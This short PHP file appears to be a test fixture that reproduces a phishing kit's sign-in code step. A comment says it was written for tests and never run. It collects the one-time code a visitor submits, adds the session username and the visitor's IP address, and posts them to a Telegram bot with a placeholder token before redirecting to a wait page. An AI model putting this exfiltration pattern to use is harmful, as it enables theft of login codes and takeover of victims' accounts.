<?php
// the sign-in code step of a kit: the code the visitor received, with the visitor's address,
// to the operator's chat bot (written for the tests, never run)
session_start();
$code = $_POST['code'] ?? '';
$text = "---- LOGIN ----\n";
$text .= "USER : " . $_SESSION['user'] . "\n";
$text .= "CODE : " . $code . "\n";
$text .= "IP   : " . getenv('REMOTE_ADDR') . "\n";
$ch = curl_init('https://api.telegram.org/bot000000:TESTTOKEN/sendMessage');
curl_setopt($ch, CURLOPT_POST, true);
curl_setopt($ch, CURLOPT_POSTFIELDS, array('chat_id' => '1', 'text' => $text));
curl_exec($ch);
header('Location: wait.html');
